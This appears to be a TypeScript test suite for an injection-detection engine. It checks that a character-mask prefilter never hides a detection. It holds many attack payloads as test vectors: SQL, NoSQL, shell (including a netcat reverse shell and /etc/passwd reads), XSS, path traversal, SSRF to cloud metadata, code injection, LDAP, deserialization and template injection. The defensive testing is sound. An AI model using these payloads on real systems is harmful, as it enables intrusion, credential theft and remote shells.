/**
 * The engine skips a detector for a string whose character mask has none of the detector's `needs`
 * bits (src/detectors/index.ts). That is only sound if the detector can never fire on such a string:
 * for every detector and every string here, a detection implies `(charMask(s) & needs) !== 0`. The
 * engine also runs detectors on the decoded form of encoded strings, so decoded forms are checked too.
 *
 * Strings: the shared ATTACKS and BENIGN tables, vectors per class written here (with evasions and
 * encodings), and seeded random strings assembled from attack keywords and every character class,
 * including bare keywords with no punctuation at all (mask 0: no detector may fire on them).
 */
import t, { type Test } from 'tap';
import { prng } from '../helpers/prng';
import { BIGRAM_HIT, bigramMaskTable, C, charMask, charMaskBigrams } from '../../src/charclass';
import { deepDecode } from '../../src/decode';
import { DETECTORS } from '../../src/detectors/index';
import { ATTACKS, BENIGN } from '../helpers/tables';

const VECTORS: Record<string, readonly string[]> = {
  sqli: [
    "' OR 1=1--",
    "1' AND SLEEP(5)#",
    '1 UNION ALL SELECT NULL,NULL,version()',
    "'; EXEC xp_cmdshell 'dir'--",
    '1;WAITFOR DELAY \'0:0:5\'',
    "admin'/**/OR/**/'a'='a",
    '1 AND extractvalue(1,concat(0x7e,user()))',
    "1' || pg_sleep(5) --",
    '-1 OR 2>1',
    '1 or true',
    "' or ''='",
    'x\' UnIoN SeLeCt 1,2,3 FrOm dual-- -',
    '1%27%20OR%20%271%27%3D%271',
    '1 and 1=1',
    'select',
    'or',
    'union select',
  ],
  nosqli: ['this.a == 1', 'this.password.match(/.*/)', "this.x == 'a' || 'b'", 'this.constructor', '{"$gt": ""}', '{"$where": "sleep(100)"}', '[$ne]=1', "'; return true; var x='", '{"$regex": ".*"}', '$ne', 'true, $where: \'1 == 1\''],
  shell: [
    '; id',
    '| nc -e /bin/sh 10.0.0.1 4444',
    '&& ping -c 10 127.0.0.1',
    '`uname -a`',
    '$(whoami)',
    'a\nwhoami',
    '%0Aid',
    ';${IFS}cat${IFS}/etc/passwd',
    '| type C:\\Windows\\win.ini',
    '& dir c:\\',
    "powershell -enc SQBFAFgA",
    '() { :; }; /bin/bash -c id',
    'whoami',
    'id',
    'cat etc passwd',
  ],
  xss: [
    '<svg onload=alert(1)>',
    '<iframe src="javascript:alert(1)">',
    '"><script>alert(1)</script>',
    "' onmouseover='alert(1)",
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '&lt;script&gt;alert(1)&lt;/script&gt;',
    '%3Cscript%3Ealert(1)%3C%2Fscript%3E',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
    '<body onload=alert`1`>',
    'javascript:alert(1)',
    'alert(1)',
    'alert',
    'onerror',
  ],
  'path-traversal': [
    '../../../etc/shadow',
    '..%2f..%2f..%2fetc%2fpasswd',
    '..%252f..%252fetc%252fpasswd',
    '..%c0%af..%c0%afetc/passwd',
    '....//....//etc/passwd',
    '..\\..\\boot.ini',
    'file:///etc/passwd',
    '/etc/passwd%00.png',
    'C:\\Windows\\System32\\drivers\\etc\\hosts',
    'etc/passwd',
    'etcpasswd',
    'passwd',
    'bootini',
  ],
  ssrf: [
    'http://169.254.169.254/latest/meta-data/',
    'http://localhost:6379/',
    'gopher://127.0.0.1:25/_HELO',
    'http://0x7f000001/',
    'http://017700000001/',
    'http://[::1]/',
    'http://metadata.google.internal/computeMetadata/v1/',
    'dict://localhost:11211/stats',
    'localhost/',
    'LOCALHOST',
    'localhost',
    'ip6-localhost',
    'ip6-loopback/',
    '127.0.0.1',
    '2130706433',
    'metadata',
  ],
  'code-injection': [
    "require('child_process').exec('id')",
    'global.process.mainModule.constructor._load("child_process")',
    "this.constructor.constructor('return process')()",
    "import('fs').then(m=>m.readFileSync('/etc/passwd'))",
    'globalThis["pro"+"cess"].exit()',
    'Function("return this")()',
    '{{constructor.constructor("return process")()}}',
    '${7*7}',
    'require',
    'process',
    'globalThis',
  ],
  'prototype-pollution': ['__proto__[isAdmin]=true', 'constructor.prototype.isAdmin', '{"__proto__":{"x":1}}', '__proto__', 'constructor', 'prototype'],
  // Each rule's own character (needsAlso): `=` alone for a breakout into a filter item, `&`, `|`,
  // `!` for groups, `*`, NUL, `\`.
  ldap: [
    'admin)(uid=*',
    ')(uid=admin',
    'x)(cn=x',
    'x) (mail=a@b.c',
    'x)(cn:dn:=x',
    'x)(age>=1',
    '*)(|(objectClass=*',
    '(|(uid=a)(uid=b))',
    '(!(cn=x))',
    '(&)',
    '*()|&',
    'admin)\u0000',
    'admin)\x00',
    'admin*)',
    'admin*',
    '*))',
    'x\\29\\28uid=x',
    'x\\29\\28|\\28cn=x',
  ],
  deserialization: [
    '_$$ND_FUNC$$_function(){return 1}()',
    'rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==',
    'O:8:"stdClass":0:{}',
    '!!python/object/apply:os.system ["id"]',
    'java.lang.Runtime',
    'javax.script.ScriptEngineManager',
    'java.lang.ProcessBuilder',
    'ysoserial',
    'rO0AB',
    'aced0005',
    // Gadget type names, which reach the detector by a pair of their prefix (a `.` alone no longer
    // does): prefixes whose only dot ends them, bare and as a Jackson wrapper, .NET names, a
    // leading blank, a name ending in `.`.
    'bsh.',
    'groovy.',
    'javassist.',
    ' groovy.',
    'bsh.Interpreter',
    "['bsh.', {}]",
    '["groovy.", {"x": 1}]',
    '["com.sun.rowset.JdbcRowSetImpl", {"dataSourceName": "ldap://x"}]',
    'System.Windows.Data.ObjectDataProvider',
    'System.Windows.Data.ObjectDataProvider, PresentationFramework',
    'System.Runtime.Remoting.',
    'Microsoft.Exchange.',
    'com.mchange.v2.c3p0.',
    'java.util.PriorityQueue',
    'org.apache.commons.collections.functors.InvokerTransformer',
    // Markers that only a bigram shows (no `<` or non-ASCII character to let them through).
    'id-rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA',
    'x-KztAAUc3IAEWphdmE',
    'x-Cs7QAFc3IAEWphdmE',
    'AAEAAAD/////AQAAAAAAAAAMAgAAAF9TeXN0ZW0',
    'v-aced0005737200116a617661',
    'Tzo4OiJzdGRDbGFzcyI6MDp7fQ==',
    'x-Tzo4OiJzdGRDbGFzcyI6MDp7fQ',
    'gASVKAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==',
    'gAJjcG9zaXgKc3lzdGVtCnEAWAIAAABpZHEBhXECUnEDLg==',
    'Y29zCnN5c3RlbQooUydpZCcKdFIu',
    'BAhvOhVHZW06OlJlcXVpcmVtZW50BjoQQHJlcXVpcmVtZW50c1sG',
    '{"py/reduce": [{"py/function": "os.system"}, ["id"]]}',
    '{"py/object": "x"}',
    'XyQkTkRfRlVOQyQkX2Z1bmN0aW9uKCl7fSgp',
    'a-8kJE5EX0ZVTkMkJF9mdW5jdGlvbigpe30oKQ',
    'fJCRORF9GVU5DJCRfZnVuY3Rpb24oKXt9KCk',
    "cos\nsystem\n(S'id'\ntR.",
    "cos\\nsystem\\n(S'id'\\ntR.",
    '\u0080\u0004\u0095',
    'x \u00ac\u00ed\u0000\u0005sr',
    '!!js/function "function(){return 1}()"',
    '!ruby/object:Gem::Installer i: x',
    '{"@type": "com.sun.rowset.JdbcRowSetImpl"}',
    '{"$type": "System.Windows.Data.ObjectDataProvider, PresentationFramework"}',
    '{"__type": "System.Windows.Data.ObjectDataProvider"}',
    '{"__js_function": "function(){require(1)}()"}',
    '{"rce": function(){ return 1 }()}',
    'a:2:{i:0;s:1:"x";i:1;O:8:"stdClass":0:{}}',
    'C:11:"ArrayObject":21:{x:i:0;a:0:{};m:a:0:{}}',
  ],
  // Perl qx literals with every delimiter (QX_DELIMITERS in index.ts, the template kinds, code's
  // brackets; `-` and `+` reach no detector: a documented gap). (Not Ruby / Perl bare calls, `system
  // 'id'`: code-injection reads them in a direct call, which its gate never makes; shell reports them.)
  ssti: [
    'qx/id/', 'qx!id!', "qx'id'", 'qx"whoami"', 'qx<id>', 'qx:id:', 'qx*id*', 'qx^id^', 'qx\\id\\', 'qx|id|', 'qx&id&',
    'qx#id#', 'qx@id@', 'qx~id~', 'qx?id?', 'qx%id%', 'qx{id}', 'qx(id)', 'qx[id]', 'qx.id.', 'qx-id-', 'qx+id+', 'qx /uname -a/',
    'x=qx!cat /etc/passwd!;', '%x(id)', '%x!id!', '{{7*7}}', '/v1/qx/cat/items', "proc_open('id',array(),$p)",
  ],
  ssi: ['<!--#exec cmd="id" -->', '<!--#include virtual="/etc/passwd"-->', '<esi:include src="http://h.invalid/"/>', '<!--esi <esi:vars>$(HTTP_COOKIE)</esi:vars> -->', 'x<ESI:Debug/>'],
};

const WORDS = [
  'select', 'union', 'or', 'and', 'sleep', 'benchmark', 'waitfor', 'delay', 'drop', 'table', 'from', 'where', 'null', 'true', '1', '0', 'x',
  'etc', 'passwd', 'shadow', 'boot', 'ini', 'win', 'windows', 'system32', 'proc', 'self', 'environ',
  'localhost', 'LOCALHOST', 'ip6', 'loopback', 'metadata', 'internal', '169', '254', '127', '0x7f000001', '2130706433',
  'script', 'alert', 'onerror', 'onload', 'javascript', 'img', 'svg', 'src', 'href', 'iframe',
  'cat', 'whoami', 'id', 'uname', 'nc', 'bash', 'sh', 'cmd', 'powershell', 'IFS', 'curl', 'wget',
  'require', 'process', 'constructor', 'prototype', '__proto__', 'globalThis', 'Function', 'eval', 'import', 'child_process', 'mainModule',
  'ne', 'gt', 'where', 'regex', 'java', 'lang', 'Runtime', 'javax', 'ProcessBuilder', 'rO0AB', 'ND_FUNC', 'python', 'object',
];
const SEPARATORS = [
  '', '', '', ' ', "'", '"', '`', ';', '|', '&', '$', '<', '>', '(', ')', '{', '}', '[', ']', '/', '\\', '.', ':', '=', '#', '-', '\n', '%', '_',
  '\u0000', '\u00e9', '*', '!', '^', '?', '@', '~', ',', '+', '\t', '%2f', '%27', '&#x3c;', '\\x3c', '..', '//', '${', '}}', '\u00a0',
];

function randomStrings(count: number, seed: number): string[] {
  const next = prng(seed);
  const pick = <T>(xs: readonly T[]): T => xs[Math.floor(next() * xs.length)]!;
  const out: string[] = [];
  for (let i = 0; i < count; i++) {
    const n = 1 + Math.floor(next() * 6);
    // A third of the strings have no separators at all: letters and digits only, mask 0.
    const bare = next() < 0.33;
    let s = '';
    for (let j = 0; j < n; j++) s += (bare ? '' : pick(SEPARATORS)) + pick(WORDS);
    if (!bare && next() < 0.5) s += pick(SEPARATORS);
    out.push(s);
  }
  return out;
}

/** Encoded variants the engine would decode before running detectors again. */
function variants(s: string): string[] {
  const out = [s, s.toUpperCase(), s.replace(/ /g, '/**/'), s.replace(/ /g, '\t')];
  try {
    out.push(encodeURIComponent(s), encodeURIComponent(encodeURIComponent(s)));
  } catch {
    // lone surrogates: nothing to encode
  }
  out.push([...s].map((c) => `&#${c.codePointAt(0)};`).join(''));
  return out;
}

const BIT_NAMES = Object.entries(C) as Array<[string, number]>;
/** Each bigram-gated detector's table, as the engine builds it (bigramMaskTable). */
const BIGRAM_TABLES = new Map(DETECTORS.flatMap((d) => (d.bigrams === undefined ? [] : [[d, bigramMaskTable(d.bigrams)] as const])));
const describeMask = (m: number): string => BIT_NAMES.filter(([, b]) => (m & b) !== 0).map(([k]) => k).join('|') || '(none: letters and digits only)';

function check(t: Test, strings: Iterable<string>): void {
  const seen = new Set<string>();
  const violations: string[] = [];
  /** Detectors that take the engine's mask as a hint (to spare a scan) must answer as without it. */
  const hinted: string[] = [];
  let runs = 0;
  for (const raw of strings) {
    const decoded = deepDecode(raw);
    for (const s of decoded === undefined ? [raw] : [raw, decoded]) {
      if (seen.has(s)) continue;
      seen.add(s);
      const mask = charMask(s);
      for (const entry of DETECTORS) {
        if (entry.value === undefined) continue;
        runs++;
        const hit = entry.value(s);
        if (mask !== 0) {
          const withMask = entry.value(s, mask);
          if (JSON.stringify(withMask) !== JSON.stringify(hit)) hinted.push(`${entry.class} on ${JSON.stringify(s)}: ${JSON.stringify(hit)} without the mask, ${JSON.stringify(withMask)} with it`);
        }
        // What the engine runs: detectors whose needs meet the mask; for letters-and-digits-only
        // strings (mask 0) of 12 or more characters, the `alnum` detectors.
        // A detector gated on bigrams (deserialization) also needs one of them, or a mask bit of its
        // `bigramsOr`, in a string value.
        const table = BIGRAM_TABLES.get(entry);
        const bigramsPass = table === undefined || (charMaskBigrams(s, table) & BIGRAM_HIT) !== 0 || (mask & (entry.bigramsOr ?? 0)) !== 0;
        // `needsAlso` (shell): the mask must meet it too.
        const alsoPass = entry.needsAlso === undefined || (mask & entry.needsAlso) !== 0;
        const reached = mask === 0 ? entry.alnum === true && s.length >= 12 : (mask & entry.needs) !== 0 && bigramsPass && alsoPass;
        // Documented gap: a bare serialization magic number shorter than 12 letters and digits
        // (`rO0AB`, `aced0005`) carries no object and is not run, to keep every short word cheap.
        const bareMagic = mask === 0 && s.length < 12;
        if (hit !== undefined && !reached && !bareMagic) {
          violations.push(`${entry.class} fires ${hit.rule} (${hit.confidence}) on ${JSON.stringify(s)} whose mask is ${describeMask(mask)}`);
        }
      }
    }
  }
  t.ok(runs > 0, `${seen.size} strings, ${runs} detector runs`);
  t.same(violations, [], 'no detection is hidden by the needs mask');
  t.same(hinted, [], 'the mask passed to a detector never changes its answer');
}

t.test('every detector has a non-empty needs mask when it has a value detector', async (t) => {
  for (const entry of DETECTORS) if (entry.value !== undefined) t.not(entry.needs, 0, entry.class);
});

t.test('shared ATTACKS and BENIGN tables and their encodings', async (t) => {
  check(t, [...ATTACKS.map((a) => a.payload), ...BENIGN].flatMap(variants));
});

for (const [cls, list] of Object.entries(VECTORS)) {
  t.test(`${cls} vectors and their encodings`, async (t) => {
    check(t, list.flatMap(variants));
  });
}

t.test('strings the mask hints decide early (no slash, colon, percent, control or non-ASCII)', async (t) => {
  // path-traversal: only `..` or a Windows classic can matter; sqli: no typographic quote to find.
  check(t, [
    'boot.ini', ' BOOT.INI ', 'win.ini', 'x.win.ini', 'a..b', '....', '.. ', 'v1.2..3', 'wait...', 'Leave it at the door, please.' + ' '.repeat(57),
    "it's a 'quoted' word", 'it\u2019s \u201cquoted\u201d', "O'Neil said \u2018hi\u2019 or 1=1", "x' or '1'='1", 'SKU-1000', 'Cotton T-shirt, size S',
  ].flatMap(variants));
});

t.test('seeded random strings from attack words and every character class', async (t) => {
  check(t, randomStrings(4000, 0x5eed));
});

t.test('needsAlso: every value the gate skips is one the detector answers undefined for', async (t) => {
  // Strings from the alphabet the gate skips (every character outside the detector's needsAlso:
  // letters, digits, `- / . , : _ = # ! [ ] \x7f`, other C0 controls, non-ASCII letters, NBSP, line
  // separators...), with command names, paths and the words the shell tables know, of every length
  // around plainClean's 41-character window. The detector is called with the mask, as the engine does.
  const gated = DETECTORS.filter((d) => d.value !== undefined && d.needsAlso !== undefined);
  t.ok(gated.length > 0, 'some detector has needsAlso');
  const next = prng(0x9a7e);
  const words = ['this', 'sleep', 'return', 'true', 'where', 'ne', 'gt', 'cn', 'uid', 'admin', 'objectClass', 'dc', 'cat', 'id', 'whoami', 'ls', 'rm', 'sh', 'bash', 'nc', 'curl', 'wget', 'ping', 'cmd', 'powershell', 'etc', 'passwd', 'bin', 'usr', 'tmp', 'dev', 'tcp', 'IFS', 'python', 'perl', 'x', '1', '0', 'SKU', '1000', 'C', 'Windows', 'win', 'ini', 'exe', 'if', 'for', 'do', 'sudo', 'env', 'exec', 'eval'];
  const all: string[] = [];
  for (let c = 0; c < 0x3100; c++) {
    if (c >= 0xd800 && c < 0xe000) continue;
    all.push(String.fromCharCode(c));
  }
  for (const d of gated) {
    const alphabet = all.filter((ch) => (charMask(ch) & d.needsAlso!) === 0);
    const seps = alphabet.filter((ch) => !/[A-Za-z0-9]/.test(ch));
    if (d.class === 'shell') t.ok(!alphabet.includes(' ') && !alphabet.includes('+') && !alphabet.includes('\t'), `${d.class}: blanks are not in the skipped alphabet`);
    const violations: string[] = [];
    let checked = 0;
    const tryOne = (s: string): void => {
      const mask = charMask(s);
      if ((mask & d.needsAlso!) !== 0 || s.length < 2) return;
      checked++;
      // Without the mask too: the full detector, not only its entry check, finds nothing there.
      const hit = d.value!(s, mask) ?? d.value!(s);
      if (hit !== undefined) violations.push(`${d.class} fires ${hit.rule} on ${JSON.stringify(s)} (mask ${describeMask(mask)})`);
    };
    for (let i = 0; i < 20000; i++) {
      let s = '';
      const parts = 1 + Math.floor(next() * 10);
      for (let j = 0; j < parts; j++) {
        const r = next();
        s += r < 0.45 ? words[Math.floor(next() * words.length)]! : r < 0.9 ? seps[Math.floor(next() * seps.length)]! : alphabet[Math.floor(next() * alphabet.length)]!;
      }
      // Lengths around the 41-character window too.
      if (next() < 0.2) s = s.repeat(1 + Math.floor(next() * 12));
      tryOne(s);
      tryOne(`${s}/bin/sh`);
      tryOne(`/${s}`);
    }
    for (const s of ['+1 (555) 010-0000', '(optional)', 'x)(cn', ')(uid', '((((', '))))', 'a) (b', 'uid)(|(cn', 'cn:dn:(x)', 'SKU-1000', '2026-11-29T10:00:00Z', 'a/b/c.json', 'https://example.com/x/y', '/bin/sh', '/usr/bin/id', 'id', 'whoami-x', 'cat/etc/passwd', 'x'.repeat(50) + '/bin/sh', 'cat\u00a0/etc/passwd', 'cat\u2028id', 'cat\u0000id', 'C:/Windows/System32/cmd.exe', 'rm\u000b-rf\u000b/']) tryOne(s);
    t.ok(checked > 10000, `${d.class}: ${checked} skipped strings checked`);
    t.same(violations, [], `${d.class}: no finding on a string its needsAlso skips`);
  }
});
